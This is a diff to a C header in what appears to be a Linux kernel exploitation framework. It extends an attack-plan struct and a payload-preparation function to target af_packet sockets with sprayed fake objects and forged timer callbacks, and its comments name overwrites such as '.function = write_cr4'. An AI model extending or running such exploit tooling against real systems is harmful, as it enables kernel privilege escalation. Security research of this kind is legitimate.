@@ -9,6 +9,7 @@
 #ifndef TH_ATTACKS_ATTACK_H
 #define TH_ATTACKS_ATTACK_H
 
+#include "af_packet.h"
 #include "layout.h"
 #include "registry.h"
 #include "victim.h"
@@ -29,8 +30,15 @@ struct th_plan {
 	size_t plant_len;	/* bytes planted at the start of name (0: none) */
 	int sets_function, sets_data;
 	int pending;		/* the timer is queued when the write lands */
-	uintptr_t fake;		/* data:fake-object: the fake ring; list:forged-timer:
+	uintptr_t fake;		/* data:fake-object: the fake object; list:forged-timer:
 				 * the forged timer_list; else 0 */
+	/* The victim's own callback, and where its timer lies in the object
+	 * (data:fake-object keeps the one and aims .data at the other). */
+	int packet_sock;	/* the victim is af_packet's socket (af_packet.h),
+				 * not the generic neighbour */
+	uintptr_t legit_fn;
+	const char *legit_name;
+	size_t fake_timer_off;
 	uintptr_t resolved;	/* not-address-taken, raw-body: the symbol's address */
 	char resolved_name[64];	/* ... and its name ("ring_force_close.cfi") */
 	char what[160];		/* narration: ".function = write_cr4, ..." */
@@ -38,8 +46,9 @@ struct th_plan {
 };
 
 /* Before the victim allocates anything: what must exist first (the fake
- * object of data:fake-object, sprayed into the slab). Return: 0 or -1. */
-int th_payload_prepare(struct th_plan *plan, enum th_payload p);
+ * object of data:fake-object, sprayed: a fake neighbour, or with
+ * @packet_sock a fake af_packet socket). Return: 0 or -1. */
+int th_payload_prepare(struct th_plan *plan, enum th_payload p, int packet_sock);
 
 /*
  * Fill plan->img over base (the attacker's view of the ring now: the leaked
